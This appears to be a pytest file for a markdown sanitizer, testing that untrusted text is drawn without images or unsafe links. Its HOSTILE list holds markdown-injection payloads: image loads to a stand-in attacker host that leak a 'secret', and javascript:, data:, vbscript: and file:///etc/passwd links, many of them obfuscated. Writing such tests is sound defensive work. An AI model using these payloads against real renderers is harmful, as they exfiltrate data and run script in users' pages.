"""Text of others, drawn: no picture is fetched, no forbidden link can be clicked, and words stay
what they were."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from leaf.shapes.harmless import JOINER
from leaf.ui.markdown import label, literal, paragraph, safe

HOSTILE = [
    "![a](https://evil.example/?d=secret)",
    "!![a](https://evil.example/x.png)",
    "!!![a](https://evil.example/x.png)",
    "![](https://evil.example/x.png)",
    "![a][ref]\n\n[ref]: https://evil.example/x.png",
    "![ref]\n\n[ref]: https://evil.example/x.png",
    "![ref][]\n\n[ref]: https://evil.example/x.png",
    "\\\\![a](https://evil.example/x.png)",
    "\\![a](https://evil.example/x.png)",
    "[![a](https://evil.example/x.png)](https://evil.example)",
    "![a\nb](https://evil.example/x.png)",
    "![a [b] c](https://evil.example/x.png)",
    "$$\n```\n$$\n![a](https://evil.example/x.png)\n```",
    "<!--\n```\n-->\n![a](https://evil.example/x.png)\n```",
    "- `![a](https://evil.example/x.png)",
    "| a |\n|---|\n| ![a](https://evil.example/x.png) |",
    "[a](data:text/html,hello)",
    "[a](DATA:text/html,hello)",
    "[a](<data:text/html,hello>)",
    "[a](&#100;ata:text/html,hello)",
    "[a](data&colon;text/html,hello)",
    "[a](data\\:text/html,hello)",
    "[a](\ndata:text/html,hello)",
    "> [a](\n> data:text/html,hello)",
    "[a]\n\n[a]: data:text/html,hello",
    "[a]\n\n[a]:\n   data:text/html,hello",
    "> [a]\n>\n> [a]:\n> data:text/html,hello",
    "[a](file:///etc/passwd)",
    "[a](javascript:alert(1))",
    "[a](vbscript:x)",
    "[a](blob:https://x/y)",
    "<data:text/html,hello>",
    "<file:///etc/passwd>",
    '<img src="https://evil.example/x.png">',
    "[a](java\tscript:alert(1))",
    "[a](&Tab;data:text/html,hello)",
]


class Permissive(MarkdownIt):
    """Takes every address, so that only `safe` stands between the text and the page."""

    def __init__(self) -> None:
        super().__init__("commonmark", {"html": False})
        self.validateLink = lambda url: True  # type: ignore[method-assign]  # the hook that markdown-it names for this


def drawn(text: str) -> str:
    return Permissive().enable("table").render(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_picture_and_no_forbidden_link_survives(text: str) -> None:
    page = drawn(safe(text))
    assert "<img" not in page
    addresses = [address.lower() for address in re.findall(r'href="([^"]*)"', page)]
    assert all(address.startswith(("http://", "https://", "mailto:")) for address in addresses), (
        addresses
    )


def test_the_hostile_texts_are_hostile() -> None:
    """Without `safe`, most of them would do what they are meant to do."""
    pages = [drawn(text) for text in HOSTILE]
    assert (
        sum("<img" in page or re.search(r'href="(?!https?:)', page) is not None for page in pages)
        >= 25
    )


def test_a_picture_becomes_a_link_with_its_words() -> None:
    assert '<a href="https://a.example/b.png">chart</a>' in drawn(
        safe("See ![chart](https://a.example/b.png).")
    )
    assert '<a href="https://a.example/b.png">picture</a>' in drawn(
        safe("![](https://a.example/b.png)")
    )


@pytest.mark.parametrize(
    "text",
    [
        "A [link](https://a.example/b?c=d&e=f) and **bold**.",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "Write to [us](mailto:a@b.example).",
        "1. one\n2. two\n\n> quoted",
        "a < b and c > d, `x[1]:y`, note [1]: fine",
    ],
)
def test_harmless_markdown_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


def test_links_within_the_page_are_only_text() -> None:
    assert "<a" not in drawn(safe("See [below](#below) or [1](#leaf-cite-m.c1-0)."))


def test_money_is_not_a_formula_but_code_keeps_its_dollars() -> None:
    assert (
        safe("From $5 to $10, `$1` in ``a `$2` b``") == "From \\$5 to \\$10, `$1` in ``a `$2` b``"
    )


@pytest.mark.parametrize(
    "text",
    [
        "my_file_*name*.csv",
        "[a](b) ![c](d) <e> `f` $5 :red[g] # h",
        "1. a - b + c | d ~e~ & \\f",
        "- item",
    ],
)
def test_literal_text_is_drawn_as_it_stands(text: str) -> None:
    page = drawn(literal(text)).strip()
    for entity, character in {"&lt;": "<", "&gt;": ">", "&amp;": "&"}.items():
        page = page.replace(entity, character)
    assert page == f"<p>{text}</p>"


def test_directives_and_icons_cannot_be_made_by_a_name() -> None:
    assert ":red[" not in literal(":red[x] :material/home:")
    assert ":material" not in literal(":red[x] :material/home:").replace("\\:", "")


def test_a_label_is_one_line_and_not_too_long() -> None:
    assert label("a\nb\tc") == "a b c"
    assert len(label("x" * 500, 40)) == 40


def test_a_paragraph_keeps_its_line_breaks() -> None:
    assert "<br" in drawn(paragraph("first\nsecond"))


def test_an_address_in_a_label_is_no_link() -> None:
    """Streamlit makes links of drawn text after escapes are gone."""
    for text in ("https://evil.example", "HTTP://evil.example", "www.evil.example", "a@b.example"):
        drawn = label(text).replace("\\", "")
        assert text not in drawn
        assert drawn.replace(JOINER, "") == text
